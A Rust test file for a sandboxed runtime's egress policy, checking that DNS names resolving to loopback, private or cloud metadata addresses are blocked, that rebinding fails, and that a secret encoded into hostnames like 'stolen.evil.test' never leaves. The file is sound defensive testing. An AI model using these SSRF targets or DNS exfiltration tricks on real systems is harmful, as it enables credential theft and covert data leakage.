//! DNS as a channel, and names that lead where no rule goes.

use serde_json::json;
use strongroom::Kind;

use crate::backend::{Backend, ok};
use crate::world::{Plan, get, is, script, under_both};

/// The name of the open backend has these addresses, under this network of the mount.
fn leads(network: &'static str, addresses: &'static [&'static str]) {
    under_both(async |allocation| {
        let backend = Backend::plain(|_| ok("reached")).await;
        let mount = if network.is_empty() { String::new() } else { format!("network = {network}\n") };
        let world = Plan::new(allocation).plain(backend.origin()).mount(&mount).open();
        world.names.tell("plain.test", &[addresses]);
        let failure = world.failure("a", &script(get(&backend.origin(), "/open/a")).or_fail()).await;
        is(&failure, Kind::PolicyDenied, "egress.address");
        let report = world.report("a", &script(get(&backend.origin(), "/open/a"))).await;
        assert_eq!(report[0]["error"], "ErrorCode::DestinationIpProhibited");
        assert_eq!(backend.accepted(), 0);
        world.end().await;
    });
}

#[test]
fn this_machine_under_a_public_name() {
    leads("", &["127.0.0.1"]);
}

#[test]
fn a_private_address_under_a_public_name() {
    leads("", &["10.0.0.1"]);
}

#[test]
fn the_metadata_service_under_a_public_name() {
    leads("", &["169.254.169.254"]);
}

#[test]
fn the_metadata_service_of_azure_under_a_public_name() {
    leads("", &["168.63.129.16"]);
}

#[test]
fn the_metadata_service_under_a_private_name() {
    leads("\"private\"", &["169.254.169.254"]);
}

#[test]
fn the_metadata_service_in_version_six() {
    leads("\"private\"", &["fd00:ec2::254"]);
}

#[test]
fn a_carriers_address_under_a_public_name() {
    leads("", &["100.64.0.1"]);
}

#[test]
fn this_machine_mapped_into_version_six() {
    leads("", &["::ffff:127.0.0.1"]);
}

#[test]
fn this_machine_behind_a_translator() {
    leads("", &["64:ff9b::7f00:1"]);
}

#[test]
fn the_address_of_nobody() {
    leads("", &["0.0.0.0"]);
}

#[test]
fn one_private_address_among_public_ones() {
    leads("", &["93.184.215.14", "10.0.0.1"]);
}

#[test]
fn one_public_address_among_those_of_this_machine() {
    leads("\"loopback\"", &["127.0.0.1", "93.184.215.14"]);
}

#[test]
fn an_address_outside_the_operators_ranges() {
    leads("[\"10.1.0.0/16\"]", &["10.2.0.1"]);
}

#[test]
fn a_name_that_moves_between_question_and_connection() {
    under_both(async |allocation| {
        let backend = Backend::plain(|_| ok("reached")).await;
        let world = Plan::new(allocation).plain(backend.origin()).open();
        // Whoever asked twice would get the second answer for the connection.
        world.names.tell("plain.test", &[&["127.0.0.1"], &["10.0.0.1"]]);
        let report = world.report("a", &script(get(&backend.origin(), "/open/a"))).await;
        assert_eq!(report[0]["body"], "reached");
        assert_eq!(world.names.asked(), ["plain.test"], "asked once");
        world.end().await;
    });
}

#[test]
fn a_secret_in_the_names_that_are_asked_for() {
    under_both(async |allocation| {
        let backend = Backend::plain(|_| ok("reached")).await;
        let world = Plan::new(allocation).plain(backend.origin()).plain_variable("HOSTILE_a", "stolen").open();
        let mut wanted = script(json!({ "env": "HOSTILE_a" }));
        for host in ["stolen.evil.test", "stolen.plain.test", "s.t.o.l.e.n.evil.test", "stolen"] {
            wanted = wanted.then(get(&format!("http://{host}:{}", backend.port), "/open/a"));
        }
        let report = world.report("a", &wanted).await;
        assert_eq!(report[0]["value"], "stolen");
        assert!(report[1..].iter().all(|came| came["error"] == "ErrorCode::HttpRequestDenied"), "{report:?}");
        assert_eq!(world.names.asked().len(), 0);
        world.end().await;
    });
}

#[test]
fn a_name_that_nobody_answers_for() {
    under_both(async |allocation| {
        let backend = Backend::plain(|_| ok("reached")).await;
        let world = Plan::new(allocation)
            .plain(backend.origin())
            .mount("network = \"loopback\"\nlimits.deadline = \"300ms\"\n")
            .open();
        world.names.silence();
        let failure = world.failure("a", &script(get(&backend.origin(), "/open/a")).or_fail()).await;
        assert_eq!(failure.kind(), Kind::Deadline, "{failure}");
        world.end().await;
    });
}

#[test]
fn a_name_without_an_address() {
    under_both(async |allocation| {
        let world = Plan::new(allocation).plain("http://nowhere.invalid:80".into()).open();
        let failure = world.failure("a", &script(get("http://nowhere.invalid:80", "/open/a")).or_fail()).await;
        is(&failure, Kind::Unavailable, "egress.dns");
        world.end().await;
    });
}
